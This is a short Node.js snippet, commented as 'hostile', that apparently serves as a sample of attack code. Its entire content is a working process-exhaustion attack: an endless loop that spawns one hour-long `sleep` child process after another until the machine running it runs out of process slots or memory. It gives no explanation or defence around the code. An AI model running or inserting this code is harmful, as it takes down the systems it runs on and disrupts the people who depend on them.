// hostile: child processes forked without end
const { spawn } = require('child_process');
for (;;) spawn('sleep', ['3600']);
